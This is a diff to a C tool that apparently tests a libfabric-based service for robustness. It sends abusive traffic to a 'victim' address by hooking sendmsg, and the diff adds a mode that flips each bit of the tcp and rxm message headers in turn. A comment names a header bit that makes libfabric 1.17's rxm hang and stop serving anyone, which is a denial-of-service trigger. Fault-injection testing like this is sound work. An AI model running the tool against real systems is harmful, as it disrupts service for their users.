@@ -4,7 +4,10 @@
  *   rma           the same, then puts with keys that may be guessed
  *   long N        N endpoints, each of which sends messages that are too long
  *   unended N S   N endpoints, each of which begins a message and does not end it; stays for S
- * seconds claim PORT S  says that it is the PE at that port, and stays for S seconds */
+ * seconds
+ *   heads A B N   an endpoint for each N-th bit of libfabric's heads of a message, from A to before
+ * B; in what it sends that bit is turned
+ *   claim PORT S  says that it is the PE at that port, and stays for S seconds */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
 #include <dlfcn.h>
@@ -17,7 +20,9 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/wait.h>
 #include <time.h>
+#include <unistd.h>
 
 static struct fid_ep* endpoint;
 static int cuts; /* of what is long only the beginning leaves */
@@ -49,6 +54,17 @@ static void cut(const struct msghdr* message, struct iovec* parts, struct msghdr
         left -= parts[i].iov_len;
     }
 }
+/* Likewise: what stands in front of a short message is 16 bytes of tcp's, then 64 of rxm's. */
+enum { kHeads = 80, kShort = 64 };
+static int turns = -1; /* the bit of it; -1: none */
+static int turned;     /* messages */
+static void turn(const struct msghdr* message, char* whole) {
+    size_t at = 0;
+    for (size_t i = 0; i < message->msg_iovlen; at += message->msg_iov[i++].iov_len)
+        memcpy(whole + at, message->msg_iov[i].iov_base, message->msg_iov[i].iov_len);
+    whole[turns / 8] = (char)(whole[turns / 8] ^ 1 << turns % 8);
+    ++turned;
+}
 ssize_t sendmsg(int file, const struct msghdr* message, int flags) {
     static ssize_t (*real)(int, const struct msghdr*, int);
     if (!real) real = (ssize_t(*)(int, const struct msghdr*, int))dlsym(RTLD_NEXT, "sendmsg");
@@ -57,6 +73,13 @@ ssize_t sendmsg(int file, const struct msghdr* message, int flags) {
         bytes += message->msg_iov[i].iov_len;
     struct iovec parts[16];
     struct msghdr begun;
+    if (turns >= 0 && bytes == kHeads + kShort) {
+        char whole[kHeads + kShort];
+        turn(message, whole);
+        parts[0] = (struct iovec){whole, bytes};
+        begun = (struct msghdr){.msg_iov = parts, .msg_iovlen = 1};
+        return real(file, &begun, flags);
+    }
     if (!cuts || bytes < kLong || message->msg_iovlen > 16) return real(file, message, flags);
     cut(message, parts, &begun);
     return real(file, &begun, flags) > 0 ? (ssize_t)bytes : -1;
@@ -143,6 +166,34 @@ static void guess_keys(void) {
     }
 }
 
+/* How many messages have left with that bit turned. By a process of its own: an answer may be more
+ * than libfabric bears. */
+static int send_turned(struct sockaddr_in* victim, int bit) {
+    const pid_t child = fork();
+    if (child == 0) {
+        open_endpoint(victim);
+        turns = bit;
+        for (int i = 0; i < 3 && send_bytes(kShort, i); ++i)
+            look(0.005);
+        look(0.01);
+        _exit(turned);
+    }
+    int status = 0;
+    need("waitpid", child > 0 && waitpid(child, &status, 0) == child ? 0 : -FI_EOTHER);
+    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
+}
+
+/* A message that is said to be a part of one: libfabric 1.17's rxm then looks for the others
+ * without end, and the PE serves nobody any more. */
+enum { kPart = 8 * 17 };
+static int send_heads(struct sockaddr_in* victim, int bit, int end, int step) {
+    int sent = 0;
+    for (int more = 1; bit < end && more != 0; bit += step) {
+        if (bit != kPart) sent += more = send_turned(victim, bit);
+    }
+    return sent;
+}
+
 int main(int argc, char** argv) {
     if (argc < 4) return 2;
     struct sockaddr_in victim = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2]))};
@@ -188,6 +239,10 @@ int main(int argc, char** argv) {
         }
         look(0.5);
         printf("sent=%d\n", sent);
+        return 0;
+    }
+    if (strcmp(mode, "heads") == 0 && argc > 6) {
+        printf("sent=%d\n", send_heads(&victim, number, atoi(argv[5]), atoi(argv[6])));
         return 0;
     }
     open_endpoint(&victim);
